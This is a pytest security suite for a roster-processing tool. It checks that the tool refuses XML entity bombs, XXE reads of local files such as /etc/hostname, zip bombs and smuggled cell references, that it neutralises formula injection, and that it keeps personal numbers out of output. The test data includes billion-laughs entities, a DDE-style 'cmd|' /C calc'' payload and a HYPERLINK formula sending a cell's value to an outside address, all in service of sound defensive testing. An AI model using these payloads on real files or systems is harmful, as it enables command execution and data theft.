"""Security and integrity: hostile XML, zip bombs, formula injection, no network, personal numbers kept
where they belong, inputs never altered, outputs written whole or not at all."""

from __future__ import annotations

import hashlib
import importlib
import json
import re
import resource
import socket
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import write_workbook
from corpus import SHARED, SHEET, billion_laughs, external_entity, patch_member
from dangvien_data import read_roster, validate
from dangvien_data.cli import main
from dangvien_data.errors import CorruptWorkbookError, DangvienError, OversizedWorkbookError
from dangvien_data.io.excel import RESULTS_SHEET, annotate, write_text
from dangvien_data.io.output import atomic_write, safe_cell_value
from strategies import AS_OF, base_members, with_change, write_roster

SAMPLE = Path(__file__).resolve().parents[2] / "sample_data"
SECRET = "BI-MAT-0123456789"


def _run(capsys: pytest.CaptureFixture[str], *args: object) -> tuple[int, str, str]:
    code = main([str(a) for a in args])
    out, err = capsys.readouterr()
    return code, out, err


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _peak_mib() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


# --- XML entities ----------------------------------------------------------------------------------------------
@pytest.mark.parametrize("part", [SHARED, SHEET])
@pytest.mark.parametrize("attack", ["billion-laughs", "external-entity"])
def test_fast_reader_expands_no_entity(attack: str, part: str, tmp_path: Path, capsys):
    """An entity bomb or an external entity (a local file) in sharedStrings.xml or sheet1.xml is refused quickly;
    no expanded text and nothing of the local file reaches any value or message."""
    secret = tmp_path / "bi_mat.txt"
    secret.write_text(SECRET, encoding="utf-8")
    path = billion_laughs(tmp_path, part) if attack == "billion-laughs" else external_entity(tmp_path, secret, part)
    peak, started = _peak_mib(), time.perf_counter()
    with pytest.raises(CorruptWorkbookError) as caught:
        read_roster(path)
    assert time.perf_counter() - started < 2 and _peak_mib() - peak < 200
    message = caught.value.message("vi") + caught.value.message("en")
    assert "thực thể XML" in message and "XML entity" in message
    assert SECRET not in message and "lollol" not in message
    code, out, err = _run(capsys, "validate", path, "--format", "json")
    assert code == 2 and json.loads(out)["error"]["code"] == "corrupt-workbook"
    assert SECRET not in out + err and "lollol" not in out + err


def test_external_entity_to_a_system_file_is_not_read(tmp_path: Path, capsys):
    """The classic XXE target, /etc/hostname, never appears in any output."""
    target = Path("/etc/hostname")
    if not target.exists() or not target.read_text().strip():
        pytest.skip("no /etc/hostname on this machine")
    path = external_entity(tmp_path, target, SHEET)
    code, out, err = _run(capsys, "read", path)
    assert code == 2 and target.read_text().strip() not in out + err


def _declare_bomb(tmp_path: Path, part: str) -> Path:
    """A valid roster whose ``part`` declares (but does not use) the billion-laughs entities."""
    path = write_roster(tmp_path / f"dtd_{Path(part).stem}.xlsx", base_members())
    lol = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    doctype = f"<!DOCTYPE bomb [{''.join(lol)}]>".encode()

    def edit(data: bytes) -> bytes:
        end = data.index(b"?>") + 2 if data.startswith(b"<?xml") else 0
        return data[:end] + doctype + data[end:]

    return patch_member(path, part, edit)


def test_openpyxl_runs_with_defusedxml():
    """openpyxl, which writes the annotated copy, found defusedxml at import and parses through it."""
    assert openpyxl.DEFUSEDXML is True


@pytest.mark.parametrize("part", ["docProps/core.xml", "xl/styles.xml", "xl/workbook.xml", SHEET])
def test_annotate_refuses_entity_declarations(part: str, tmp_path: Path, capsys):
    """Entities declared but never used: openpyxl (through defusedxml) refuses them, and --annotate turns that into
    a clear refusal (exit 2), writing nothing. In the parts the used-range pass parses (the workbook and its
    sheets) any document type is refused before the fast reader opens the file."""
    path = _declare_bomb(tmp_path, part)
    if part in ("xl/workbook.xml", SHEET):
        with pytest.raises(CorruptWorkbookError, match="thực thể XML"):
            read_roster(path)
        code, _, err = _run(capsys, "validate", path, "--annotate", tmp_path / "ket_qua.xlsx", "--lang", "en")
        assert code == 2 and "XML entity" in err and str(path) in err
        assert not (tmp_path / "ket_qua.xlsx").exists() and not list(tmp_path.glob(".*.tmp"))
        return
    with pytest.raises(ValueError) as caught, path.open("rb") as handle:
        openpyxl.load_workbook(handle)
    chain, cause = [], caught.value
    while cause is not None:
        chain.append(type(cause).__module__)
        cause = cause.__cause__ or cause.__context__
    assert any(module.startswith("defusedxml") for module in chain)
    roster = read_roster(path)
    assert len(roster) == 4 and not roster.raw.astype("string").stack().str.contains("lol").any()
    with pytest.raises(CorruptWorkbookError, match="DTD"):
        annotate(roster, validate(roster, as_of=AS_OF), tmp_path / "ket_qua.xlsx")
    code, _, err = _run(capsys, "validate", path, "--annotate", tmp_path / "ket_qua.xlsx", "--lang", "en")
    assert code == 2 and "defusedxml" in err
    assert not (tmp_path / "ket_qua.xlsx").exists() and not list(tmp_path.glob(".*.tmp"))


# --- archives ------------------------------------------------------------------------------------------------
def test_zip_bomb_hidden_behind_padding(tmp_path: Path, monkeypatch):
    """One member inflating 1000-fold is a bomb even when incompressible padding keeps the whole archive's ratio
    low; it is refused from the archive's directory, before anything is decompressed."""
    import random

    path = write_roster(tmp_path / "bom_an.xlsx", base_members())
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/padding.bin", random.Random(6).randbytes(2 * 1024**2))
        with archive.open("xl/printerSettings/bomb.bin", "w", force_zip64=True) as handle:
            block = b"\0" * 1024**2
            for _ in range(80):
                handle.write(block)

    def forbidden(*args, **kwargs):
        raise AssertionError("decompressed before the size check")

    monkeypatch.setattr(zipfile.ZipFile, "open", forbidden)
    with pytest.raises(OversizedWorkbookError, match="bom nén"):
        read_roster(path)


@pytest.fixture
def sheet_loads(monkeypatch) -> list[object]:
    """Every call of fastexcel's ``load_sheet`` (each one fails): the test asserts the list stays empty. A call
    is recorded, not only raised, because the loader turns any reader error into CorruptWorkbookError."""
    import fastexcel

    loaded: list[object] = []

    def guarded(self, *args, **kwargs):
        loaded.append(args)
        raise AssertionError("a sheet was loaded")

    monkeypatch.setattr(fastexcel.ExcelReader, "load_sheet", guarded)
    return loaded


@pytest.mark.parametrize(
    ("name", "large"),
    [("huge-used-range", False), ("huge-used-range", True), ("huge-row-number", False)],
    ids=["stray-values-quick-pass", "stray-values-xml-parser", "row-beyond-excel"],
)
def test_huge_used_range_is_refused_before_the_reader_allocates(
    name: str, large: bool, tmp_path: Path, monkeypatch, sheet_loads: list[object]
):
    """Stray values at XFD1 and A1048576, or a row number beyond Excel's, would make calamine ask for hundreds of
    GiB and abort the process: the used range is measured first and the file refused, naming the stray cells,
    whether the quick pass or the XML parser measures the part."""
    from corpus import build
    from dangvien_data.io import xlsx_scan as _xlsx_scan

    if large:
        monkeypatch.setattr(_xlsx_scan, "_quick_scan", lambda archive, member: None)
    if name == "huge-used-range":
        path, far = build(name, tmp_path), ("A1048576", "XFD1")
    else:
        path, far = write_roster(tmp_path / "dong_xa.xlsx", base_members()), ("A99999999999",)
        cell = b'<row r="99999999999"><c r="A99999999999" t="inlineStr"><is><t>x</t></is></c></row>'
        patch_member(path, SHEET, lambda data: data.replace(b"</sheetData>", cell + b"</sheetData>"))

    with pytest.raises(OversizedWorkbookError, match="Ctrl\\+End") as caught:
        read_roster(path)
    assert all(ref in str(caught.value) for ref in far)
    assert not sheet_loads


# calamine (quick-xml) takes the *last* ``r`` of a cell, accepts attributes with no white space between them,
# single quotes and any white space around "=": each of these smuggles a far reference past a naive scan.
SMUGGLED = {
    "second-r": b'<c r="A9" r="XFD1048576" t="inlineStr">',
    "no-space-before-r": b'<c r="A9" t="inlineStr"r="XFD1048576">',
    "newline-before-r": b'<c r="A9"\nr="XFD1048576" t="inlineStr">',
    "spaced-equals": b'<c r="A9" r = "XFD1048576" t="inlineStr">',
    "single-quoted": b"<c r='XFD1048576' t=\"inlineStr\">",
    "row-without-r": b'<c r="A9" t="inlineStr" r="XFD1048576">',
}


@pytest.mark.parametrize("variant", sorted(SMUGGLED))
def test_far_reference_in_unusual_markup_is_never_loaded(variant: str, tmp_path: Path, sheet_loads: list[object]):
    """A cell whose reference calamine would place at XFD1048576, written in markup a byte search could misread,
    is refused before the reader allocates: as oversized (the parser measured it) or as damaged XML."""
    path = write_roster(tmp_path / "dong_xa.xlsx", base_members())
    cell = SMUGGLED[variant] + b"<is><t>x</t></is></c>"
    row = b"<row>" if variant == "row-without-r" else b'<row r="9999">'
    patch_member(path, SHEET, lambda data: data.replace(b"</sheetData>", row + cell + b"</row></sheetData>"))

    with pytest.raises((OversizedWorkbookError, CorruptWorkbookError)) as caught:
        read_roster(path)
    assert not sheet_loads, "the reader was asked to allocate the sheet"
    if isinstance(caught.value, OversizedWorkbookError):
        assert "XFD1048576" in str(caught.value)


# calamine is the judge of where a cell lands: a sheet of random plain and unusual cell markup (far references kept
# small, so that calamine's allocation stays small) is read by it, and the quick pass must bound what it placed.
_FAR = b"AZ4999"  # stands in for XFD1048576 in the markup below
_VALUES = [b"><v>1</v></c>", b"><is><t>x</t></is></c>", b' t="e"><v>#REF!</v></c>', b"/>"]
_CELL_TAGS = st.builds(
    lambda col, row, attrs, close: f'<c r="{col}{row}"{attrs}'.encode() + close,
    st.sampled_from(["A", "B", "Z", "AA", "AZ"]),
    st.integers(1, 5000),
    st.sampled_from(["", ' s="1"', ' cm="1"', ' s="1" vm="2"']),
    st.sampled_from(_VALUES),
)
_ODD_TAGS = st.builds(
    lambda tag, close: tag.replace(b"XFD1048576", _FAR).replace(b"xfd1048576", _FAR.lower()) + close,
    st.sampled_from(
        [*(v.replace(b' t="inlineStr"', b"") for v in SMUGGLED.values()), b'<c s="1" r="XFD1048576"', b"<c",
         b'<c\tr="XFD1048576"', b'<c r="xfd1048576"', b'<c r="XFD1048576" r="A1"', b'<c r="A1"  r="XFD1048576"']
    ),
    st.sampled_from(_VALUES[:2]),
)  # fmt: skip
_EXTRAS = st.sampled_from(
    [b'<!-- <c r="' + _FAR + b'"/> -->', b"<![CDATA[<c r='" + _FAR + b"'>]]>", b'<col min="1" max="9"/>']
)


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.one_of(_CELL_TAGS, _CELL_TAGS, _ODD_TAGS, _EXTRAS), min_size=1, max_size=30))
def test_quick_pass_bounds_every_cell_calamine_places(tmp_path_factory, tags: list[bytes]):
    """Whatever mix of plain and unusual cell markup a sheet holds, the quick byte pass either declines (the
    parser then measures the part) or bounds every cell calamine reads from it; plain markup alone it proves."""
    import fastexcel

    from dangvien_data.io import xlsx_scan

    path = tmp_path_factory.mktemp("quick") / "o.xlsx"
    openpyxl.Workbook().save(path)
    anchor = b'<c r="A1" t="inlineStr"><is><t>a</t></is></c>'  # calamine's range then starts at A1
    body = b'<sheetData><row r="1">' + anchor + b"".join(tags) + b"</row></sheetData>"
    patch_member(
        path, SHEET, lambda data: re.sub(rb"<sheetData\s*/>|<sheetData>.*</sheetData>", body, data, flags=re.S)
    )
    with zipfile.ZipFile(path) as archive:
        quick = xlsx_scan._quick_scan(archive, SHEET)
    if all(re.fullmatch(rb'<c r="[A-Z]+[0-9]+"(?: (?:s|cm|vm|t)="[0-9e]")*(/>|>.*</c>)', tag) for tag in tags):
        assert quick is not None, "plain cells must take the quick pass"
    if quick is None:
        return
    try:
        sheet = fastexcel.read_excel(str(path)).load_sheet(0, header_row=None, dtypes="string")
    except Exception:  # markup calamine refuses: nothing placed
        return
    far = [xlsx_scan._ref(r.strip(), need_column=True) for r in (quick.far_cell or "A1").split(",")]
    rows = max(p[0] for p in far if p) + 1
    cols = max(p[1] for p in far if p) + 1
    assert sheet.height <= rows and sheet.width <= cols, (sheet.height, sheet.width, quick.far_cell)


# --- formula injection -------------------------------------------------------------------------------------------
INJECTED = {
    "B4": '=HYPERLINK("http://example.invalid/?"&B5,"Bấm vào đây")',  # name
    "E3": "+84912345678",  # ethnicity
    "F3": "@SUM(1+1)*cmd|' /C calc'!A0",  # religion
    "M5": "-1234",  # card number
    "E6": "=1+1",  # ethnicity
}


def _injected_roster(tmp_path: Path) -> Path:
    """A roster whose cells hold text that a spreadsheet would run as a formula if written carelessly."""
    path = write_roster(tmp_path / "tiem_cong_thuc.xlsx", base_members())
    wb = openpyxl.load_workbook(path)
    for ref, text in INJECTED.items():
        cell = wb["DS"][ref]
        cell.value = text
        cell.data_type = "s"  # stored as text in the input, as a user typing '=… would
    wb.save(path)
    return path


def _formulas(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        return [f for n in sheets for f in re.findall(r"<f[ >][^<]*", archive.read(n).decode("utf-8"))]


def test_annotated_copy_writes_formula_like_values_as_text(tmp_path: Path):
    """Values starting with = + - @ reach the results sheet as plain strings (data type "s"); the annotated copy
    holds no formula at all."""
    path = _injected_roster(tmp_path)
    roster = read_roster(path)
    report = validate(roster, as_of=AS_OF)
    out = annotate(roster, report, tmp_path / "ket_qua.xlsx")
    assert _formulas(path) == [] and _formulas(out) == []
    results = openpyxl.load_workbook(out)[RESULTS_SHEET]
    cells = [c for row in results.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    written = {c.value: c.data_type for c in cells if c.value.startswith(("=", "+", "-", "@"))}
    assert set(INJECTED.values()) <= set(written)
    assert set(written.values()) == {"s"}
    copied = openpyxl.load_workbook(out)["DS"]
    assert all(copied[ref].value == text and copied[ref].data_type == "s" for ref, text in INJECTED.items())


def test_write_text_and_safe_cell_value():
    """The shared helpers: formula-like text is flagged as text; other values pass through unchanged."""
    wb = openpyxl.Workbook()
    for i, text in enumerate(["=A1", "+1", "-1", "@x", "ok", 5, None], start=1):
        write_text(wb.active, i, 1, text)
    assert [wb.active.cell(row=i, column=1).data_type for i in range(1, 8)] == ["s", "s", "s", "s", "s", "n", "n"]
    assert safe_cell_value("a\x00b\x1fc") == ("abc", False)
    assert safe_cell_value(12) == (12, False)


def test_summary_workbook_writes_cell_names_as_text(tmp_path: Path):
    """A cell (chi bộ) name that looks like a formula stays text in the summary workbook."""
    summary_workbook = pytest.importorskip("dangvien_data.report.workbook")
    from dangvien_data.report.summary import summarise
    from strategies import COLUMNS

    name = '=HYPERLINK("http://example.invalid","Chi bộ")'
    rows = [[*COLUMNS, "Chi bộ"], *([*m.row(i), "CELL"] for i, m in enumerate(base_members(), start=1))]
    path = write_workbook(tmp_path / "ds.xlsx", {"DS": rows})
    wb = openpyxl.load_workbook(path)
    for row in wb["DS"].iter_rows(min_row=2):
        row[-1].value, row[-1].data_type = name, "s"
    wb.save(path)
    roster = read_roster(path)
    assert roster.cells == [name]
    out = summary_workbook.write_summary_workbook(summarise(roster, as_of=AS_OF), tmp_path / "tong_hop.xlsx")
    hits = [
        c
        for ws in openpyxl.load_workbook(out)
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str) and "HYPERLINK" in c.value
    ]
    assert hits and all(c.data_type == "s" for c in hits)
    assert not any("HYPERLINK" in f for f in _formulas(out))


# --- network -------------------------------------------------------------------------------------------------------
def test_no_network_access(tmp_path: Path, monkeypatch, capsys):
    """Reading, validating, annotating and summarising never open a connection or resolve a name."""

    def no_network(*args, **kwargs):
        raise AssertionError("network access attempted")

    for name in ("connect", "connect_ex", "sendto"):
        monkeypatch.setattr(socket.socket, name, no_network)
    monkeypatch.setattr(socket, "create_connection", no_network)
    monkeypatch.setattr(socket, "getaddrinfo", no_network)
    path = _injected_roster(tmp_path)  # holds a HYPERLINK to an outside address
    roster = read_roster(path)
    report = validate(roster, as_of=AS_OF)
    annotate(roster, report, tmp_path / "ket_qua.xlsx")
    assert _run(capsys, "validate", SAMPLE / "danh_sach_dang_vien_loi.xlsx", "--as-of", "2020-03-31")[0] == 1
    assert _run(capsys, "summary", SAMPLE / "danh_sach_dang_vien.xlsx", "--as-of", "2020-03-31")[0] in (0, 1)


# --- personal numbers ----------------------------------------------------------------------------------------------
def _numbers_roster(tmp_path: Path) -> tuple[Path, dict[str, str], dict[str, str]]:
    """Four members with cards and CCCDs; member 2's CCCD has 11 digits and member 3's card 7."""
    members = with_change(base_members(), 1, cccd="00119001234")
    members = with_change(members, 2, card="0123456")
    path = write_roster(tmp_path / "so_ca_nhan.xlsx", members)
    rows = [m.row(i) for i, m in enumerate(members, start=1)]
    cards = {str(r[12]): f"M{3 + i}" for i, r in enumerate(rows)}
    cccds = {str(r[13]): f"N{3 + i}" for i, r in enumerate(rows)}
    return path, cards, cccds


@pytest.mark.parametrize("lang", ["vi", "en"])
def test_personal_numbers_appear_only_in_their_own_issues(lang: str, tmp_path: Path, capsys):
    """`validate` names a card or CCCD number only in an issue about that very cell; `read` and `summary` never."""
    path, cards, cccds = _numbers_roster(tmp_path)
    code, out, _ = _run(capsys, "validate", path, "--as-of", AS_OF.isoformat(), "--format", "json", "--lang", lang)
    assert code == 1
    for issue in json.loads(out)["issues"]:
        text = json.dumps(issue, ensure_ascii=False)
        for number, ref in (cards | cccds).items():
            if number in text:
                assert issue["ref"] == ref and issue["field"] in ("card_number", "cccd"), issue
    shown = [n for n in cards | cccds if n in out]
    assert sorted(shown) == ["00119001234", "0123456"]
    _, text_out, _ = _run(capsys, "validate", path, "--as-of", AS_OF.isoformat(), "--lang", lang)
    assert sorted(n for n in cards | cccds if n in text_out) == ["00119001234", "0123456"]
    for command in (["read"], ["read", "--format", "json"], ["summary", "--as-of", AS_OF.isoformat()]):
        _, out, err = _run(capsys, command[0], path, *command[1:], "--lang", lang)
        assert not [n for n in cards | cccds if n in out + err], command


def test_internal_errors_do_not_quote_cell_values(tmp_path: Path, capsys, monkeypatch):
    """A bug's message may quote a cell: the command line prints only the exception's type."""
    validation = importlib.import_module("dangvien_data.roster.validation")

    def broken(*args, **kwargs):
        raise ValueError("invalid literal for int(): '001080123456'")

    monkeypatch.setattr(validation, "validate", broken)
    code, _, err = _run(capsys, "validate", SAMPLE / "danh_sach_dang_vien.xlsx")
    assert code == 2 and "ValueError" in err and "001080123456" not in err and "Traceback" not in err


# --- integrity -------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "command",
    [
        ["read"],
        ["read", "--format", "json"],
        ["validate", "--as-of", "2020-03-31"],
        ["validate", "--as-of", "2020-03-31", "--format", "json", "--lang", "en"],
        ["validate", "--as-of", "2020-03-31", "--annotate", "{out}"],
        ["summary", "--as-of", "2020-03-31", "--out", "{out}"],
    ],
)
def test_commands_leave_inputs_byte_identical(command: list[str], tmp_path: Path, capsys):
    """sha256 of every input before and after each command; outputs land beside, never over an input."""
    inputs = [tmp_path / "sach.xlsx", tmp_path / "loi.xlsx"]
    inputs[0].write_bytes((SAMPLE / "danh_sach_dang_vien.xlsx").read_bytes())
    inputs[1].write_bytes((SAMPLE / "danh_sach_dang_vien_loi.xlsx").read_bytes())
    before = {p: _digest(p) for p in inputs}
    for path in inputs:
        args = [a.replace("{out}", str(tmp_path / f"ket_qua_{path.stem}.xlsx")) for a in command]
        code, _, err = _run(capsys, args[0], path, *args[1:])
        assert code in (0, 1), err
    assert {p: _digest(p) for p in inputs} == before


def test_interrupted_write_leaves_nothing_and_keeps_the_old_output(tmp_path: Path):
    """An exception or Ctrl+C inside the write callback: no partial file, no temporary file, the old output whole."""
    out = tmp_path / "ket_qua.xlsx"
    out.write_bytes(b"old output")
    for failure in (RuntimeError("boom"), KeyboardInterrupt()):

        def write(tmp: Path, failure: BaseException = failure) -> None:
            tmp.write_bytes(b"half a workbook")
            raise failure

        with pytest.raises(type(failure)):
            atomic_write(out, write)
        assert sorted(p.name for p in tmp_path.iterdir()) == ["ket_qua.xlsx"]
        assert out.read_bytes() == b"old output"
    atomic_write(out, lambda tmp: tmp.write_bytes(b"new output"))
    assert out.read_bytes() == b"new output" and sorted(p.name for p in tmp_path.iterdir()) == ["ket_qua.xlsx"]


def test_interrupted_annotate_leaves_nothing(tmp_path: Path, monkeypatch):
    """openpyxl failing half-way through saving the annotated copy leaves neither it nor a temporary file."""
    path = write_roster(tmp_path / "ds.xlsx", base_members())
    before = _digest(path)
    roster = read_roster(path)
    report = validate(roster, as_of=AS_OF)

    def half_save(self, filename):
        Path(filename).write_bytes(b"PK\x03\x04 half")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(openpyxl.Workbook, "save", half_save)
    with pytest.raises(DangvienError, match="No space left"):
        annotate(roster, report, tmp_path / "ket_qua.xlsx")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["ds.xlsx"] and _digest(path) == before


# --- outputs: only regular files, nothing personal left behind -----------------------------------------------------
def test_output_over_a_device_or_pipe_is_refused(tmp_path: Path):
    """--annotate or -o onto a device (through a link to /dev/null) or a named pipe is refused (exit 2) and the node
    is left as it was: the tool never replaces a system file."""
    import os
    import stat

    from corpus import run_cli

    path = write_roster(tmp_path / "ds.xlsx", base_members())
    link = tmp_path / "ra_null.xlsx"
    link.symlink_to(os.devnull)
    pipe = tmp_path / "ong.xlsx"
    os.mkfifo(pipe)
    for out in (link, pipe):
        for args in (["validate", path, "--as-of", AS_OF.isoformat(), "--annotate", out], ["summary", path, "-o", out]):
            done = run_cli(*args, "--lang", "en", timeout=60)
            assert done.returncode == 2 and b"is not a regular file" in done.stderr, done.stderr
    assert stat.S_ISCHR(os.stat(os.devnull).st_mode) and link.is_symlink() and stat.S_ISFIFO(pipe.stat().st_mode)


_WRITER = """
import os, signal, sys, zipfile
from pathlib import Path
from dangvien_data.io.output import atomic_write

def write(tmp):
    Path(tmp).write_bytes(b"Nguyen Van An 01234567")
    how = sys.argv[2]
    if how == "full-disk":
        archive = zipfile.ZipFile(tmp, "w")
        archive.writestr("xl/worksheets/sheet1.xml", b"x" * 1000)
        class Full:
            def __getattr__(self, name):
                def fail(*args, **kwargs):
                    raise OSError(28, "No space left on device")
                return fail
        archive.fp = Full()
        raise OSError(28, "No space left on device")
    os.kill(os.getpid(), getattr(signal, how))
    signal.pause()

try:
    atomic_write(sys.argv[1], write)
except KeyboardInterrupt:
    sys.exit(130)
except Exception as exc:
    print(f"refused: {exc}", file=sys.stderr)
    sys.exit(2)
"""


@pytest.mark.parametrize("how", ["SIGTERM", "SIGHUP", "SIGINT", "full-disk"])
def test_interrupted_write_leaves_nothing_on_disk(how: str, tmp_path: Path):
    """SIGTERM, SIGHUP or Ctrl+C arriving while an output is written, or a full disk: the temporary file holding the
    members' data is removed, and a refusal is one message (no ZipFile.__del__ traceback after it)."""
    import subprocess
    import sys

    out = tmp_path / "ket_qua.xlsx"
    done = subprocess.run(
        [sys.executable, "-c", _WRITER, str(out), how], capture_output=True, text=True, timeout=60, check=False
    )
    assert done.returncode != 0 and list(tmp_path.iterdir()) == [], (done.returncode, done.stderr)
    assert "Traceback" not in done.stderr and "Exception ignored" not in done.stderr, done.stderr
    if how == "full-disk":
        assert done.stderr.startswith("refused: ") and done.stderr.count("\n") == 1


def test_temporary_files_of_a_killed_run_are_removed_by_the_next(tmp_path: Path):
    """kill -9 cannot be caught: the next write to the same output removes the temporary file the killed run left
    (ours: our name pattern, our user, a process that is gone), and leaves a running writer's alone."""
    import os
    import subprocess
    import sys

    out = tmp_path / "ket_qua.xlsx"
    done = subprocess.run(
        [sys.executable, "-c", _WRITER, str(out), "SIGKILL"], capture_output=True, text=True, timeout=60, check=False
    )
    assert done.returncode == -9
    left = list(tmp_path.glob(".ket_qua.xlsx.*.tmp"))
    assert len(left) == 1 and b"Nguyen" in left[0].read_bytes()
    alive = tmp_path / f".ket_qua.xlsx.{os.getppid()}.abcd1234.tmp"  # a writer that still runs
    alive.write_bytes(b"")
    other = tmp_path / ".khac.xlsx.1.abcd1234.tmp"  # another output's
    other.write_bytes(b"")
    atomic_write(out, lambda tmp: tmp.write_bytes(b"new"))
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([out.name, alive.name, other.name])


@pytest.mark.parametrize(("umask", "mode"), [(0o022, 0o644), (0o077, 0o600), (0o027, 0o640)])
def test_outputs_follow_the_umask(umask: int, mode: int, tmp_path: Path):
    """The output gets the permissions the user's umask gives new files (umask 077 keeps it private)."""
    import os

    previous = os.umask(umask)
    try:
        out = atomic_write(tmp_path / "ket_qua.xlsx", lambda tmp: tmp.write_bytes(b"x"))
    finally:
        os.umask(previous)
    assert out.stat().st_mode & 0o777 == mode
